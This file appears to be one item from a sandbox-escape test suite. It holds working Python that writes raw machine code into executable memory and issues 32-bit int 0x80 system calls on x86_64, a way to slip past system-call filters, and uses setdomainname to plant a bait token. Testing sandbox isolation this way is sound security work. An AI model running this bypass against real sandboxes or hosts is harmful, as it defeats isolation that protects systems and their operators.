# /// attack
# tries = "Calls the kernel the way that 32-bit programs do, which a filter of system calls may not see."
# points = 0
# shows = ["changed"]
# ///
# %% before count
import ctypes
import mmap
import os

if os.uname().machine == "x86_64" and os.fork() == 0:
    # mov eax, 5 (open); mov ecx, 0; mov edx, 0; int 0x80; ret, with the address of the name in ebx
    low = ctypes.CDLL(None)
    low.mmap.restype = ctypes.c_void_p
    low.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    place = low.mmap(0x20000000, 8192, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
    name = b"/proc/sys/kernel/domainname\0"
    ctypes.memmove(place + 4096, name, len(name))
    said = bait["token"].encode()
    ctypes.memmove(place + 4096 + 100, said, len(said))

    def call(number, first, second, third):
        words = ((0xB8, number), (0xBB, first), (0xB9, second), (0xBA, third))
        code = b"\x53" + b"".join(bytes([op]) + value.to_bytes(4, "little") for op, value in words)
        code += b"\xcd\x80\x5b\xc3"
        ctypes.memmove(place, code, len(code))
        return ctypes.CFUNCTYPE(ctypes.c_int)(place)()

    # setdomainname is 121 there: nothing of the new root's own, and refused to everybody but root
    call(121, place + 4096 + 100, len(said), 0)
    os._exit(0)
elif os.uname().machine == "x86_64":
    os.wait()
